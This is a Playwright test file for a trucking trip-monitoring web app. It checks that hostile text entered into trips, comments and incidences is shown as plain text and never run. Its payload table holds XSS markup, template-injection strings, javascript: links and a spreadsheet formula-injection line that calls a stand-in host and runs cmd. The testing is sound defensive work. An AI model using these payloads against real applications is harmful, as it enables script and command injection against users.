import type { Page } from '@playwright/test'
import { createTrip, postFix } from './support/trips.ts'
import { expect, openSentinel, selectTrip, signedInPage, test } from './support/vigia.ts'

const TEXTS: Record<string, string> = {
  markup: `"><img src=x onerror="window.__xss=1"><script>window.__xss=1</script>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is hostile text
  'a template': '{{constructor.constructor("window.__xss=1")()}}${window.__xss=1}',
  'a link': 'javascript:window.__xss=1//<a href="javascript:window.__xss=1">Querétaro</a>',
  'a formula': '=HYPERLINK("http://robo.example/?"&A1;"Ver")+cmd|\' /C calc\'!A0',
  'no spaces': 'Ñ'.repeat(200),
  'emoji and marks': `${'👩‍👩‍👧‍👦🚛'.repeat(9)} Z${'\u0315\u0321\u035e'.repeat(20)}`,
  'right to left': 'شاحنة تكساس ‏مرحبا עברית'.replaceAll('\u200f', ''),
  'the words of our own screen': 'CRÍTICO 100 </div></main><style>*{display:none}</style>',
}

/** What a page must never do with text from outside. */
interface Incidents {
  readonly said: string[]
  check(): Promise<void>
}

async function watch(page: Page): Promise<Incidents> {
  const said: string[] = []
  page.on('dialog', (dialog) => {
    said.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => said.push(`error ${error.message}`))
  page.on('console', (message) => {
    if (message.type() === 'error') said.push(`console ${message.text()}`)
  })
  page.on('request', (request) => {
    if (/robo\.example|\/x$/.test(request.url())) said.push(`request ${request.url()}`)
  })
  await page.addInitScript(() => {
    const violations: string[] = []
    Object.assign(window, { violations })
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(`${event.violatedDirective} ${event.blockedURI}`),
    )
  })
  return {
    said,
    check: async () => {
      const { run, violations } = await page.evaluate(() => ({
        run: '__xss' in window,
        violations: 'violations' in window ? window.violations : null,
      }))
      expect({ run, violations, said }).toEqual({ run: false, violations: [], said: [] })
    },
  }
}

/** The beginning of a text, in UTF-16 units as the server counts them, without half a character at its end. */
const cut = (text: string, max: number): string =>
  text
    .slice(0, max)
    .replace(/[\ud800-\udbff]$/, '')
    .trim()

/** Runs in the page: what is wider than its place, or can be scrolled sideways. */
function spills(): string[] {
  const parts = [
    '.snt-row',
    '.trip',
    '.trip > div',
    '.snt-detail',
    '.snt-detail > .scroll',
    '.snt-detail .sec',
    '.snt-card',
  ]
  return ['html', ...parts]
    .flatMap((selector) => [...document.querySelectorAll(selector)])
    .filter((part) => {
      const place = part.parentElement?.closest('aside, main') ?? document.documentElement
      const sticksOut = part.getBoundingClientRect().right > place.getBoundingClientRect().right + 1
      const scrolls = part.scrollWidth > part.clientWidth + 1 && getComputedStyle(part).overflowX !== 'hidden'
      return sticksOut || scrolls
    })
    .map((part) => `${part.tagName} ${part.className}: ${part.scrollWidth} > ${part.clientWidth}`)
}

let page: Page
let incidents: Incidents
test.beforeAll(async ({ browser, vigia }) => {
  page = await signedInPage(browser, vigia)
  incidents = await watch(page)
  await openSentinel(page)
})
test.afterAll(() => page.context().close())

for (const [what, text] of Object.entries(TEXTS)) {
  test(`text from outside stays text: ${what}`, async ({ api }) => {
    const short = (max: number) => cut(text, max)
    const trip = await createTrip(api, {
      invoice_id: short(100),
      description: text,
      origin: short(200),
      destination: short(200),
      company_client_name: short(200),
      company_carrier_name: short(200),
      operator_name: short(200),
      operator_phone: short(30),
      gps_platform: short(100),
      monitor_url: `https://gps.example.mx/?q=${encodeURIComponent(text)}`,
    })
    await postFix(api, trip, 0, { lat: 20.6, lng: -100.4 })
    await api.post(`/api/travels/${trip.id}/comments`, { comment: text.repeat(5) })
    await api.post(`/api/travels/${trip.id}/incidences`, { type: short(50), description: text, priority: 'other' })
    await api.post('/api/geofences', {
      name: short(100),
      kind: 'danger',
      shape: { type: 'circle', centre: { lat: 20.6, lng: -100.4 }, radiusM: 900 },
    })

    const { row, panel } = await selectTrip(page, trip.invoice)
    const shown = short(200).normalize('NFC')
    await expect(row.locator('.route span').first()).toHaveText(shown)
    await expect(panel.locator('.feed')).toContainText(shown)
    await expect(panel.locator('.incs')).toContainText(shown)
    await page.getByRole('tab', { name: 'GPS' }).click()
    await expect(page.getByRole('link', { name: 'Abrir GPS', exact: true })).toBeVisible()

    expect(await page.evaluate(spills)).toEqual([])
    expect(await page.locator('img[src="x"], script:not([src]), a[href^="javascript"]').count()).toBe(0)
    await incidents.check()
  })
}
